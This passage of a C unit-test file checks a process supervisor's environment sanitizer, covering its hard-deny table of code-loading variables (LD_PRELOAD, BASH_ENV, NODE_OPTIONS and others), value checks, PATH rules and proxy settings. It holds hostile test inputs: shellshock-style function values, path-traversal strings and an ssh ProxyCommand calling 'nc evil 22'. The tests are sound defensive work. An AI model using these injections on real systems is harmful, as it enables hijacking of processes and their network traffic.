/* envb_build(): modes, matching, the hard-deny table, value checks, PATH
 * rules, env_extra, the audit event. Table-driven where there is a table. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include <errno.h>
#include <ftw.h>
#include <pwd.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include <openssl/evp.h>
#include <openssl/pem.h>
#include <openssl/x509.h>

#include "policy/trust_bundle.h"
#include "proc-supervisor/env_build.h"
#include "tests/proc-supervisor/envb_test.h"

static const struct envb_entry *find(const struct envb_entry *v, size_t n, const char *name)
{
	for (size_t i = 0; i < n; i++)
		if (strcmp(v[i].name, name) == 0)
			return &v[i];
	return NULL;
}

static void expect_parent(const struct envb_result *r, const char *name, bool kept, enum reason why)
{
	const struct envb_entry *e = find(r->parent, r->n_parent, name);
	if (!e)
		fail_msg("%s not in the report", name);
	if (e->kept != kept || (!kept && e->reason != why))
		fail_msg("%s: got %s/%s, want %s/%s", name, e->kept ? "kept" : "dropped",
			 reason_word(e->reason), kept ? "kept" : "dropped", reason_word(why));
	if (kept && !envp_get(r->envp, name) && strcmp(name, "PATH") && strcmp(name, "TMPDIR"))
		fail_msg("%s kept but not in envp", name);
	if (!kept && envp_get(r->envp, name) && strcmp(name, "SHELL") && strcmp(name, "PWD") &&
	    strcmp(name, "TMPDIR") && !strcasestr(name, "_PROXY"))
		fail_msg("%s dropped but in envp", name);
}

static void build(const struct policy *p, char *const *parent, const struct envb_extra *x,
		  struct envb_result *r)
{
	int rc = envb_build(p, parent, x, r);
	if (rc < 0)
		fail_msg("envb_build: %d %s", rc, r->error);
	/* invariants: NULL-terminated, no name twice */
	assert_null(r->envp[r->envc]);
	for (size_t i = 0; i < r->envc; i++) {
		const char *eq = strchr(r->envp[i], '=');
		assert_non_null(eq);
		for (size_t j = i + 1; j < r->envc; j++)
			assert_false(strncmp(r->envp[i], r->envp[j], (size_t)(eq - r->envp[i]) + 1) == 0);
	}
}

/* Every hard-deny entry, as a concrete name. */
static const char *const hard_names[] = {
	"LD_PRELOAD", "LD_AUDIT", "LD_LIBRARY_PATH", "LD_CONFIG", "_RLD_ROOT", "LDR_PRELOAD", "LIBPATH",
	"SHLIB_PATH", "DYLD_INSERT_LIBRARIES", "GLIBC_TUNABLES", "MALLOC_TRACE", "GCONV_PATH", "LOCPATH",
	"NLSPATH", "PATH_LOCALE", "GETCONF_DIR", "HOSTALIASES", "LOCALDOMAIN", "RES_OPTIONS",
	"RESOLV_HOST_CONF", "NIS_PATH", "TZDIR", "BASH_ENV", "ENV", "ZDOTDIR", "FPATH", "PS4",
	"SHELLOPTS", "BASHOPTS", "GLOBIGNORE", "IFS", "CDPATH", "NULLCMD", "READNULLCMD", "TMPPREFIX",
	"BASH_FUNC_foo", "PYTHONPATH", "PYTHONHOME", "PYTHONSTARTUP", "PYTHONINSPECT", "PYTHONUSERBASE",
	"NODE_OPTIONS", "PERL5OPT", "PERL5LIB", "PERLLIB", "PERL5DB", "PERLIO_DEBUG", "RUBYOPT", "RUBYLIB",
	"JAVA_TOOL_OPTIONS", "_JAVA_OPTIONS", "JDK_JAVA_OPTIONS", "GIT_CONFIG_COUNT", "GIT_CONFIG_KEY_0",
	"GIT_CONFIG_VALUE_0", "GIT_CONFIG_PARAMETERS", "GIT_SSH", "GIT_SSH_COMMAND", "GIT_DIR",
	"GIT_WORK_TREE", "TERMINFO", "TERMINFO_DIRS", "TERMCAP", "TERMPATH", "KRB5_CONFIG",
	"KRB5_CONFIG_X", "KRB5_KTNAME", "OPENSSL_CONF", "SSLKEYLOGFILE", "SSH_AUTH_SOCK", "SSH_AGENT_PID",
	"DBUS_SESSION_BUS_ADDRESS", "XAUTHORITY",
	/* runtimes that load code named by a variable (issue 19 item 10); the
	 * ones installed here also have a real-interpreter test in
	 * test_runtime_inject.sh, the rest (bun, deno, dotnet, R, electron)
	 * only this table */
	"PYTHONWARNINGS", "PYTHONBREAKPOINT", "PYTHONPYCACHEPREFIX", "PYTHONPLATLIBDIR",
	"NODE_REPL_EXTERNAL_MODULE", "ELECTRON_RUN_AS_NODE", "npm_config_node_options",
	"NPM_CONFIG_NODE_OPTIONS", "BUN_OPTIONS", "BUN_INSPECT", "BUN_INSPECT_CONNECT_TO", "BUN_BE_BUN", "PERLDB_OPTS",
	"RUBYPATH", "DOTNET_STARTUP_HOOKS", "DOTNET_ADDITIONAL_DEPS", "DOTNET_SHARED_STORE",
	"CORECLR_ENABLE_PROFILING", "CORECLR_PROFILER", "CORECLR_PROFILER_PATH", "CORECLR_PROFILER_PATH_64",
	"CORECLR_NOTIFICATION_PROFILERS", "COR_ENABLE_PROFILING", "COR_PROFILER", "COR_PROFILER_PATH",
	"DOTNET_DiagnosticPorts", "COMPlus_DiagnosticPorts", "DOTNET_GCName", "COMPlus_GCName",
	"DOTNET_GCPath", "DOTNET_AltJit", "DOTNET_AltJitName", "COMPlus_AltJitName", "DOTNET_JitName",
	"COMPlus_JitPath", "LUA_INIT", "LUA_INIT_5_4", "LUA_PATH", "LUA_PATH_5_3", "LUA_CPATH",
	"LUA_CPATH_5_4", "PHPRC", "PHP_INI_SCAN_DIR", "R_PROFILE", "R_PROFILE_USER", "R_ENVIRON",
	"R_ENVIRON_USER", "R_LIBS", "R_LIBS_USER", "R_LIBS_SITE", "OPENSSL_ENGINES", "OPENSSL_MODULES",
};

static void test_hard_deny_table(void **state)
{
	size_t n = sizeof(hard_names) / sizeof(*hard_names);
	/* project AND command layers list every name; agent preset too */
	char proj[16384], cmd[16384];
	size_t o = (size_t)snprintf(proj, sizeof(proj), "version: 1\nenvironment:\n  pass_through: [");
	for (size_t i = 0; i < n; i++)
		o += (size_t)snprintf(proj + o, sizeof(proj) - o, "%s%s", i ? ", " : "", hard_names[i]);
	snprintf(proj + o, sizeof(proj) - o, "]\n");
	memcpy(cmd, proj, sizeof(cmd));
	static const char *const modes[] = { "sanitized", "explicit", "baseline", "secrets-off" };
	for (size_t m = 0; m < 4; m++) {
		char cmdm[16500];
		snprintf(cmdm, sizeof(cmdm), "%s  mode: %s\n", cmd, modes[m]);
		struct policy *p = mkpol(NULL, proj, "claude", cmdm);
		char *parent[2 * 160 + 2];
		static char bufs[2 * 160][96];
		size_t k = 0;
		for (size_t i = 0; i < n; i++) {
			snprintf(bufs[k], sizeof(bufs[k]), "%s=/tmp/evil", hard_names[i]);
			parent[k] = bufs[k];
			k++;
			/* lower case too: matching is case-insensitive */
			snprintf(bufs[k], sizeof(bufs[k]), "%s=/tmp/evil", hard_names[i]);
			for (char *c = bufs[k]; *c != '='; c++)
				*c = (char)(*c >= 'A' && *c <= 'Z' ? *c + 32 : *c);
			parent[k] = bufs[k];
			k++;
		}
		parent[k] = NULL;
		struct envb_result r;
		build(p, parent, NULL, &r);
		for (size_t i = 0; i < k; i++) {
			char name[96];
			snprintf(name, sizeof(name), "%.*s", (int)(strchr(parent[i], '=') - parent[i]), parent[i]);
			expect_parent(&r, name, false, REASON_HARD_DENY);
			assert_true(envb_hard_denied(name));
		}
		for (size_t i = 0; i < r.envc; i++)
			assert_null(strstr(r.envp[i], "/tmp/evil"));
		envb_result_done(&r);
		policy_free(p);
	}
	/* BASH_FUNC_ with the %% suffix bash really uses, and function values */
	struct policy *p = mkpol(NULL, "version: 1\nenvironment:\n  pass_through: [FOO]\n", NULL, NULL);
	char *parent[] = { "BASH_FUNC_ls%%=() { echo pwned; }", "FOO=() { echo pwned; }", NULL };
	struct envb_result r;
	build(p, parent, NULL, &r);
	expect_parent(&r, "BASH_FUNC_ls%%", false, REASON_HARD_DENY);
	expect_parent(&r, "FOO", false, REASON_VALUE_CHECK);
	envb_result_done(&r);
	policy_free(p);
	/* not hard-denied: ordinary names */
	assert_false(envb_hard_denied("HOME"));
	assert_false(envb_hard_denied("PATH"));
	assert_false(envb_hard_denied("LDFLAGS") && false);
	assert_false(envb_hard_denied("EDITOR"));
	/* neighbours of the runtime entries that load no code stay passable */
	static const char *const harmless[] = { "PYTHONUNBUFFERED", "PYTHONDONTWRITEBYTECODE", "PYTHONIOENCODING",
						"NODE_ENV", "NODE_EXTRA_CA_CERTS", "PERL_UNICODE", "RUBY_GC_HEAP_INIT_SLOTS",
						"DOTNET_CLI_TELEMETRY_OPTOUT", "DOTNET_NOLOGO", "R_HOME", "LUAROCKS_CONFIG",
						"PHP_VERSION", "BUNDLE_PATH", "PERLIO" };
	for (size_t i = 0; i < sizeof(harmless) / sizeof(*harmless); i++)
		if (envb_hard_denied(harmless[i]))
			fail_msg("%s is hard-denied but loads no code", harmless[i]);
}

static void test_modes(void **state)
{
	char *parent[] = { "HOME=/root", "LANG=C.UTF-8", "LC_ALL=C", "TERM=xterm", "EDITOR=vi",
			   "ANTHROPIC_API_KEY=sk-ant-x", "PROJ_VAR=1", "SYS_VAR=1", "CMD_VAR=1", NULL };
	const char *sys = "version: 1\nenvironment:\n  pass_through: [SYS_VAR]\n";
	const char *proj = "version: 1\nenvironment:\n  pass_through: [PROJ_VAR]\n";
	struct envb_result r;

	struct policy *p = mkpol(sys, proj, "claude", "version: 1\nenvironment:\n  pass_through: [CMD_VAR]\n");
	build(p, parent, NULL, &r);
	assert_int_equal(r.mode, POLICY_ENV_SANITIZED);
	expect_parent(&r, "HOME", true, 0);
	expect_parent(&r, "LANG", true, 0);
	expect_parent(&r, "LC_ALL", true, 0);
	expect_parent(&r, "TERM", true, 0);
	expect_parent(&r, "EDITOR", true, 0); /* claude preset */
	expect_parent(&r, "ANTHROPIC_API_KEY", true, 0);
	expect_parent(&r, "PROJ_VAR", true, 0);
	expect_parent(&r, "SYS_VAR", true, 0);
	expect_parent(&r, "CMD_VAR", true, 0);
	envb_result_done(&r);
	policy_free(p);

	p = mkpol(sys, proj, "claude", "version: 1\nenvironment:\n  mode: explicit\n  pass_through: [CMD_VAR]\n");
	build(p, parent, NULL, &r);
	expect_parent(&r, "HOME", false, REASON_NOT_ALLOWED);
	expect_parent(&r, "SYS_VAR", false, REASON_NOT_ALLOWED);
	expect_parent(&r, "ANTHROPIC_API_KEY", false, REASON_NOT_ALLOWED);
	expect_parent(&r, "PROJ_VAR", true, 0);
	expect_parent(&r, "CMD_VAR", true, 0);
	assert_non_null(envp_get(r.envp, "PATH")); /* always set by the supervisor */
	envb_result_done(&r);
	policy_free(p);

	p = mkpol(sys, proj, "claude", "version: 1\nenvironment:\n  mode: baseline\n");
	build(p, parent, NULL, &r);
	expect_parent(&r, "HOME", true, 0);
	expect_parent(&r, "ANTHROPIC_API_KEY", true, 0);
	expect_parent(&r, "PROJ_VAR", false, REASON_NOT_ALLOWED);
	expect_parent(&r, "SYS_VAR", false, REASON_NOT_ALLOWED);
	envb_result_done(&r);
	policy_free(p);

	p = mkpol(sys, proj, "claude", "version: 1\nenvironment:\n  mode: secrets-off\n");
	build(p, parent, NULL, &r);
	expect_parent(&r, "HOME", true, 0);
	expect_parent(&r, "EDITOR", true, 0);
	expect_parent(&r, "ANTHROPIC_API_KEY", false, REASON_SECRET_SHAPED);
	envb_result_done(&r);
	policy_free(p);
}

/* Toolchain locations that decide which code a runtime loads (DENO_DIR,
 * GEM_HOME, GEM_PATH, CLASSPATH, DOTNET_ROOT) pass only when named exactly,
 * with a warning; a wildcard never passes them. */
static void test_toolchain_exact(void **state)
{
	static const char *const names[] = { "DENO_DIR", "GEM_HOME", "GEM_PATH", "CLASSPATH", "DOTNET_ROOT" };
	char *parent[] = { "DENO_DIR=/d", "GEM_HOME=/g", "GEM_PATH=/g", "CLASSPATH=/c", "DOTNET_ROOT=/r", NULL };
	struct policy *p = mkpol(NULL, "version: 1\nenvironment:\n  pass_through: [\"DENO_*\", \"GEM_*\", \"CLASS*\", \"DOTNET_*\"]\n",
				 NULL, NULL);
	struct envb_result r;
	build(p, parent, NULL, &r);
	for (size_t i = 0; i < 5; i++)
		expect_parent(&r, names[i], false, REASON_NOT_ALLOWED);
	envb_result_done(&r);
	policy_free(p);
	p = mkpol(NULL, "version: 1\nenvironment:\n  pass_through: [DENO_DIR, GEM_HOME, GEM_PATH, CLASSPATH, DOTNET_ROOT]\n",
		  NULL, NULL);
	build(p, parent, NULL, &r);
	for (size_t i = 0; i < 5; i++) {
		expect_parent(&r, names[i], true, 0);
		bool warned = false;
		for (size_t j = 0; j < r.n_warnings; j++)
			warned |= strstr(r.warnings[j], names[i]) && strstr(r.warnings[j], "explicit pass_through");
		if (!warned)
			fail_msg("%s passed without a warning", names[i]);
	}
	envb_result_done(&r);
	policy_free(p);
}

static void test_matching(void **state)
{
	char *parent[] = { "GIT_AUTHOR_NAME=a", "MY_TOKEN=t", "MY_OTHER=o", "MY_KEY=k", "aws_secret_access_key=s",
			   "AWS_REGION=eu", "NODE_PATH=/n", "CARGO_HOME=/c", "TETHER_SESSION=x", "tether_lower=y",
			   "GIT_AUTHOR_NAMEX=z", NULL };
	struct policy *p = mkpol(NULL,
				 "version: 1\nenvironment:\n  pass_through: [\"GIT_AUTHOR_*\", \"MY_*\", MY_KEY, aws_secret_access_key, AWS_REGION, \"NODE_*\", CARGO_HOME, TETHER_SESSION]\n  deny: [\"AWS_SECRET*\"]\n",
				 NULL, NULL);
	struct envb_result r;
	build(p, parent, NULL, &r);
	expect_parent(&r, "GIT_AUTHOR_NAME", true, 0);
	expect_parent(&r, "GIT_AUTHOR_NAMEX", true, 0);
	expect_parent(&r, "MY_OTHER", true, 0);
	expect_parent(&r, "MY_TOKEN", false, REASON_SECRET_SHAPED); /* wildcard never passes a secret */
	expect_parent(&r, "MY_KEY", true, 0);                         /* named explicitly */
	expect_parent(&r, "aws_secret_access_key", false, REASON_POLICY_DENY); /* deny is case-insensitive */
	expect_parent(&r, "AWS_REGION", true, 0);
	expect_parent(&r, "NODE_PATH", false, REASON_NOT_ALLOWED);    /* toolchain needs an exact name */
	expect_parent(&r, "CARGO_HOME", true, 0);
	expect_parent(&r, "TETHER_SESSION", false, REASON_TETHER_RESERVED);
	expect_parent(&r, "tether_lower", false, REASON_TETHER_RESERVED);
	bool warned = false;
	for (size_t i = 0; i < r.n_warnings; i++)
		warned |= strstr(r.warnings[i], "CARGO_HOME passed through explicit pass_through") != NULL;
	assert_true(warned);
	envb_result_done(&r);
	policy_free(p);
}

static void test_value_checks(void **state)
{
	struct { const char *name, *value; bool ok; } t[] = {
		{ "LANG", "C.UTF-8", true },          { "LANG", "../../../tmp/x", false },
		{ "LANGUAGE", "de:en", true },        { "LANGUAGE", "%n%n", false },
		{ "LC_ALL", "/tmp/locale", false },   { "LC_MESSAGES", "en_US.UTF-8", true },
		{ "TERM", "xterm-256color", true },   { "TERM", "/tmp/terminfo/x", false },
		{ "COLORTERM", "truecolor", true },   { "COLORTERM", "%s", false },
		{ "TZ", "Europe/Berlin", true },      { "TZ", "UTC", true },
		{ "TZ", ":/usr/share/zoneinfo/UTC", true }, { "TZ", "/etc/passwd", false },
		{ "TZ", "../../../etc/shadow", false }, { "TZ", "/usr/share/zoneinfo/../../../etc/x", false },
		{ "TZ", "Europe/Ber lin", false },    { "EDITOR", "() { :; }", false },
		{ "EDITOR", "vim", true },
	};
	for (size_t i = 0; i < sizeof(t) / sizeof(*t); i++)
		if (envb_value_ok(t[i].name, t[i].value) != t[i].ok)
			fail_msg("%s=%s: want %s", t[i].name, t[i].value, t[i].ok ? "ok" : "dropped");
	struct policy *p = mkpol(NULL, "version: 1\nenvironment:\n  pass_through: [TZ]\n", NULL, NULL);
	char *parent[] = { "LANG=../x", "TZ=/etc/passwd", "TERM=xterm", NULL };
	struct envb_result r;
	build(p, parent, NULL, &r);
	expect_parent(&r, "LANG", false, REASON_VALUE_CHECK);
	expect_parent(&r, "TZ", false, REASON_VALUE_CHECK);
	expect_parent(&r, "TERM", true, 0);
	envb_result_done(&r);
	policy_free(p);
}

static void test_names_invalid(void **state)
{
	struct policy *p = mkpol(NULL, "version: 1\nenvironment:\n  pass_through: [EDITOR, \"A*\"]\n", NULL, NULL);
	char *parent[] = { "NOEQUALS", "=value", "1ABC=x", "A B=x", "A.B=x", "EDITOR=first", "EDITOR=second",
			   "A\x01=x", NULL };
	struct envb_result r;
	build(p, parent, NULL, &r);
	assert_int_equal(r.n_parent, 8);
	for (size_t i = 0; i < 5; i++) {
		assert_false(r.parent[i].kept);
		assert_int_equal(r.parent[i].reason, REASON_NAME_INVALID);
	}
	assert_true(r.parent[5].kept);
	assert_false(r.parent[6].kept);
	assert_int_equal(r.parent[6].reason, REASON_NAME_INVALID);
	assert_string_equal(r.parent[7].name, "A?"); /* printable in reports */
	assert_string_equal(envp_get(r.envp, "EDITOR"), "first");
	envb_result_done(&r);
	policy_free(p);
}

static void test_extra(void **state)
{
	char *parent[] = { "SHELL=/bin/evilsh", "OLDPWD=/secret/place", "PWD=/parent", "HTTP_PROXY=http://u:p@proxy:1",
			   "https_proxy=http://u:p@proxy:1", "NO_PROXY=", "TMPDIR=/nonexistent-tmp", "HOME=/root",
			   NULL };
	struct policy *p = mkpol(NULL,
				 "version: 1\nenvironment:\n  pass_through: [HTTP_PROXY, https_proxy, OLDPWD]\n  broker: true\nexec:\n  shell: /bin/dash\n",
				 NULL, NULL);
	const char *vars[] = { "TETHER_SESSION_ID=abc123", "GIT_SSH_COMMAND=ssh -F /dev/null" };
	struct envb_extra x = { .cwd = "/work/dir", .proxy_url = "http://192.0.2.1:3128",
				.credential_socket = "/run/tether-x/cred-1.sock", .vars = vars, .n_vars = 2 };
	struct envb_result r;
	build(p, parent, &x, &r);
	expect_parent(&r, "SHELL", false, REASON_SUPERVISOR_SET);
	expect_parent(&r, "OLDPWD", false, REASON_SUPERVISOR_SET);
	expect_parent(&r, "HTTP_PROXY", false, REASON_SUPERVISOR_SET);
	expect_parent(&r, "https_proxy", false, REASON_SUPERVISOR_SET);
	expect_parent(&r, "TMPDIR", false, REASON_VALUE_CHECK); /* not a directory */
	assert_null(envp_get(r.envp, "OLDPWD"));
	assert_null(envp_get(r.envp, "TMPDIR"));
	assert_string_equal(envp_get(r.envp, "PWD"), "/work/dir");
	assert_string_equal(envp_get(r.envp, "SHELL"), "/bin/dash");
	static const char *const px[] = { "HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY", "http_proxy", "https_proxy", "all_proxy" };
	for (size_t i = 0; i < 6; i++)
		assert_string_equal(envp_get(r.envp, px[i]), "http://192.0.2.1:3128");
	assert_string_equal(envp_get(r.envp, "NO_PROXY"), "localhost,127.0.0.1,::1");
	assert_string_equal(envp_get(r.envp, "no_proxy"), "localhost,127.0.0.1,::1");
	assert_string_equal(envp_get(r.envp, "TETHER_SESSION_ID"), "abc123");
	assert_string_equal(envp_get(r.envp, "GIT_SSH_COMMAND"), "ssh -F /dev/null");
	assert_string_equal(envp_get(r.envp, "TETHER_CREDENTIAL_SOCKET"), "/run/tether-x/cred-1.sock");
	for (size_t i = 0; i < r.envc; i++)
		assert_null(strstr(r.envp[i], "u:p@"));
	envb_result_done(&r);
	policy_free(p);

	/* SHELL from passwd; private tmp; inherited TMPDIR that exists; no broker in secrets-off */
	p = mkpol(NULL, "version: 1\nenvironment:\n  mode: secrets-off\n  broker: true\n", NULL, NULL);
	char *parent2[] = { "TMPDIR=/tmp", NULL };
	struct envb_extra x2 = { .has_target_uid = true, .target_uid = 0, .credential_socket = "/x.sock" };
	build(p, parent2, &x2, &r);
	struct passwd *pw = getpwuid(0);
	assert_string_equal(envp_get(r.envp, "SHELL"), pw && pw->pw_shell[0] == '/' ? pw->pw_shell : "/bin/sh");
	envb_result_done(&r);
	/* a passwd shell that is no shell (nobody's nologin: not in
	 * /etc/shells) gives /bin/sh: ssh runs its ProxyCommand with $SHELL */
	pw = getpwuid(65534);
	if (pw && strstr(pw->pw_shell, "nologin")) {
		struct envb_extra xn = x2;
		xn.target_uid = 65534;
		build(p, parent2, &xn, &r);
		assert_string_equal(envp_get(r.envp, "SHELL"), "/bin/sh");
		envb_result_done(&r);
	}
	build(p, parent2, &x2, &r);
	assert_string_equal(envp_get(r.envp, "TMPDIR"), "/tmp");
	assert_null(envp_get(r.envp, "TETHER_CREDENTIAL_SOCKET"));
	assert_null(envp_get(r.envp, "HTTP_PROXY"));
	envb_result_done(&r);
	x2.private_tmp = "/run/tether/tmp";
	build(p, parent2, &x2, &r);
	assert_string_equal(envp_get(r.envp, "TMPDIR"), "/run/tether/tmp");
	expect_parent(&r, "TMPDIR", false, REASON_SUPERVISOR_SET);
	envb_result_done(&r);
	policy_free(p);
}

static void test_extra_bad_key(void **state)
{
	struct policy *p = mkpol(NULL, NULL, NULL, NULL);
	pid_t pid = fork();
	assert_true(pid >= 0);
	if (pid == 0) {
		const char *vars[] = { "LD_PRELOAD=/x.so" };
		struct envb_extra x = { .vars = vars, .n_vars = 1 };
		struct envb_result r;
		int rc = envb_build(p, NULL, &x, &r);
		_exit(rc == 0 && !envp_get(r.envp, "LD_PRELOAD") && r.n_warnings == 1 ? 0 : 1);
	}
	int st;
	assert_int_equal(waitpid(pid, &st, 0), pid);
#ifdef NDEBUG
	assert_true(WIFEXITED(st) && WEXITSTATUS(st) == 0); /* dropped with a warning */
#else
	assert_true(WIFSIGNALED(st) && WTERMSIG(st) == SIGABRT); /* programming error */
#endif
	policy_free(p);
}

static void test_set(void **state)
{
	struct policy *p = mkpol(NULL,
				 "version: 1\nenvironment:\n  set: { FOO: bar, LD_PRELOAD: /x.so, TETHER_X: y, PATH: \"/bin:.\", LANG: \"../x\", SHELL: /bin/x }\n",
				 NULL, "version: 1\nenvironment:\n  set: { FOO: baz }\n  deny: [FOO2]\n");
	char *parent[] = { "FOO=parent", NULL };
	struct envb_result r;
	build(p, parent, NULL, &r);
	assert_string_equal(envp_get(r.envp, "FOO"), "baz"); /* command layer overrides */
	assert_null(envp_get(r.envp, "LD_PRELOAD"));
	assert_null(envp_get(r.envp, "TETHER_X"));
	assert_null(envp_get(r.envp, "LANG"));
	assert_string_equal(envp_get(r.envp, "PATH"), "/bin"); /* set PATH is still sanitized */
	assert_string_not_equal(envp_get(r.envp, "SHELL"), "/bin/x");
	const struct envb_entry *e = find(r.set, r.n_set, "LD_PRELOAD");
	assert_non_null(e);
	assert_false(e->kept);
	assert_int_equal(e->reason, REASON_HARD_DENY);
	e = find(r.set, r.n_set, "TETHER_X");
	assert_int_equal(e->reason, REASON_TETHER_RESERVED);
	e = find(r.set, r.n_set, "LANG");
	assert_int_equal(e->reason, REASON_VALUE_CHECK);
	bool w = false;
	for (size_t i = 0; i < r.n_warnings; i++)
		w |= strstr(r.warnings[i], "proj.yaml:3:") && strstr(r.warnings[i], "LD_PRELOAD dropped (hard_deny)");
	assert_true(w);
	envb_result_done(&r);
	policy_free(p);
}

/* ── PATH ─────────────────────────────────────────────────────────────── */

static char root[64];

static int rm_cb(const char *p, const struct stat *st, int flag, struct FTW *ftw)
{
	return remove(p);
}

static int path_setup(void **state)
{
	strcpy(root, "/tmp/tether-path-XXXXXX");
	if (!mkdtemp(root))
		return -1;
	char p[128];
	static const char *const dirs[] = { "a", "b", "w", "g" };
	for (size_t i = 0; i < 4; i++) {
		snprintf(p, sizeof(p), "%s/%s", root, dirs[i]);
		mkdir(p, 0755);
	}
	snprintf(p, sizeof(p), "%s/w", root);
	chmod(p, 0777);
	snprintf(p, sizeof(p), "%s/g", root);
	chmod(p, 0775);
	snprintf(p, sizeof(p), "%s/f", root);
	FILE *f = fopen(p, "w");
	fclose(f);
	return 0;
}

static int path_teardown(void **state)
{
	nftw(root, rm_cb, 8, FTW_DEPTH | FTW_PHYS);
	return 0;
}

static void test_path_rules(void **state)
{
	struct policy *p = mkpol(NULL, NULL, NULL, NULL);
	char *parent[] = { "PATH=/a::.:..:rel/bin:/nonexist:/f:/b:/a:/w:/x/../a:/./b:/g", NULL };
	struct envb_extra x = { .path_root = root };
	struct envb_result r;
	build(p, parent, &x, &r);
	assert_string_equal(r.path, "/a:/b:/w:/g");
	assert_string_equal(envp_get(r.envp, "PATH"), "/a:/b:/w:/g");
	assert_true(r.path_rewritten);
	struct { const char *entry, *why; } want[] = {
		{ "", "empty" },         { ".", "dot" },       { "..", "dotdot" },     { "rel/bin", "relative" },
		{ "/nonexist", "missing" }, { "/f", "not_directory" }, { "/a", "duplicate" },
		{ "/x/../a", "dotdot" }, { "/./b", "dot" },
	};
	assert_int_equal(r.n_path_dropped, sizeof(want) / sizeof(*want));
	for (size_t i = 0; i < r.n_path_dropped; i++) {
		assert_string_equal(r.path_dropped[i].entry, want[i].entry);
		assert_string_equal(r.path_dropped[i].why, want[i].why);
	}
	assert_int_equal(r.n_path_writable, 2);
	assert_string_equal(r.path_writable[0], "/w");
	assert_string_equal(r.path_writable[1], "/g");
	assert_non_null(strstr(r.warnings[0], "PATH entry /w is world-writable"));
	assert_non_null(strstr(r.warnings[1], "PATH entry /g is group-writable"));
	envb_result_done(&r);

	/* nothing left → /usr/bin:/bin */
	char *parent2[] = { "PATH=.:rel", NULL };
	build(p, parent2, &x, &r);
	assert_string_equal(r.path, "/usr/bin:/bin");
	envb_result_done(&r);
	/* unchanged PATH is not "rewritten" */
	char *parent3[] = { "PATH=/a:/b", NULL };
	build(p, parent3, &x, &r);
	assert_false(r.path_rewritten);
	envb_result_done(&r);
	policy_free(p);

	/* path_strict: writable and relative entries are errors; missing ones are not */
	p = mkpol(NULL, NULL, NULL, "version: 1\nenvironment:\n  path_strict: true\n");
	char *s1[] = { "PATH=/w:/a", NULL };
	assert_int_equal(envb_build(p, s1, &x, &r), -EPERM);
	assert_string_equal(r.error, "PATH entry '/w' is group/world-writable and environment.path_strict is true");
	envb_result_done(&r);
	char *s2[] = { "PATH=/a:.", NULL };
	assert_int_equal(envb_build(p, s2, &x, &r), -EPERM);
	assert_string_equal(r.error, "PATH entry '.' is dot and environment.path_strict is true");
	envb_result_done(&r);
	char *s3[] = { "PATH=/a:/nonexist:/b", NULL };
	assert_int_equal(envb_build(p, s3, &x, &r), 0);
	assert_string_equal(r.path, "/a:/b");
	envb_result_done(&r);
	policy_free(p);
}

/* environment.git_ssh_via_proxy: GIT_SSH_COMMAND runs ssh through
 * `tether connect`; the parent's GIT_SSH_COMMAND is still hard-denied; no
 * proxy or a path a shell would read: not set, with a warning. */
static bool warned(const struct envb_result *r, const char *what)
{
	for (size_t i = 0; i < r->n_warnings; i++)
		if (strstr(r->warnings[i], what))
			return true;
	return false;
}

static void test_git_ssh_via_proxy(void **state)
{
	(void)state;
	struct envb_result r;
	char *parent[] = { "GIT_SSH_COMMAND=ssh -o ProxyCommand='nc evil 22'", NULL };
	struct policy *off = mkpol(NULL, "version: 1\n", NULL, NULL);
	struct policy *on = mkpol(NULL, "version: 1\nenvironment:\n  git_ssh_via_proxy: true\n", NULL, NULL);
	struct envb_extra x = { .proxy_url = "http://127.0.0.1:3128", .tether_path = "/usr/bin/tether" };

	build(off, parent, &x, &r); /* not asked for: not set */
	assert_null(envp_get(r.envp, "GIT_SSH_COMMAND"));
	expect_parent(&r, "GIT_SSH_COMMAND", false, REASON_HARD_DENY);
	envb_result_done(&r);

	build(on, parent, &x, &r);
	assert_string_equal(envp_get(r.envp, "GIT_SSH_COMMAND"), "ssh -o ProxyCommand='/usr/bin/tether connect %h %p'");
	const struct envb_entry *e = find(r.parent, r.n_parent, "GIT_SSH_COMMAND"); /* the parent's value never */
	assert_non_null(e);
	assert_false(e->kept);
	assert_int_equal(e->reason, REASON_HARD_DENY);
	e = find(r.set, r.n_set, "GIT_SSH_COMMAND");
	assert_non_null(e);
	assert_int_equal(e->reason, REASON_SUPERVISOR_SET);
	envb_result_done(&r);

	struct envb_extra none = x;
	none.proxy_url = NULL;
	build(on, parent, &none, &r);
	assert_null(envp_get(r.envp, "GIT_SSH_COMMAND"));
	assert_true(warned(&r, "needs the egress proxy"));
	envb_result_done(&r);

	const char *bad[] = { "/opt/te ther/tether", "/opt/it's/tether", "/opt/%h/tether", "tether", NULL };
	for (size_t i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) { /* NULL: none found */
		struct envb_extra b = x;
		b.tether_path = bad[i];
		build(on, parent, &b, &r);
		assert_null(envp_get(r.envp, "GIT_SSH_COMMAND"));
		assert_true(warned(&r, "GIT_SSH_COMMAND not set"));
		envb_result_done(&r);
	}
	policy_free(on);
	policy_free(off);
}

/* environment.trust_bundle: one PEM file, checked at load, behind every
 * client's CA variable; the parent's and `set:` values of those names are
 * the supervisor's then; a bad file fails the load with FILE:LINE:COL; an
 * immutable system layer's bundle stays. */
static char tb_dir[64];
static char tb_ca[96], tb_key[96], tb_both[96], tb_junk[96];

static void write_text(const char *path, const char *a, const char *b)
{
	FILE *f = fopen(path, "w");
	assert_non_null(f);
	fputs(a, f);
	if (b)
		fputs(b, f);
	fclose(f);
}

/* a self-signed CA, made with OpenSSL now (no fixture to expire) */
static int tb_setup(void **state)
{
	(void)state;
	strcpy(tb_dir, "/tmp/test_trust_bundle.XXXXXX");
	if (!mkdtemp(tb_dir))
		return -1;
	EVP_PKEY *k = EVP_EC_gen("P-256");
	X509 *x = X509_new();
	if (!k || !x)
		return -1;
	ASN1_INTEGER_set(X509_get_serialNumber(x), 1);
	X509_gmtime_adj(X509_getm_notBefore(x), 0);
	X509_gmtime_adj(X509_getm_notAfter(x), 86400);
	X509_set_pubkey(x, k);
	X509_NAME *n = X509_get_subject_name(x);
	X509_NAME_add_entry_by_txt(n, "CN", MBSTRING_ASC, (const unsigned char *)"tether test CA", -1, -1, 0);
	X509_set_issuer_name(x, n);
	if (!X509_sign(x, k, EVP_sha256()))
		return -1;
	snprintf(tb_ca, sizeof(tb_ca), "%s/ca.pem", tb_dir);
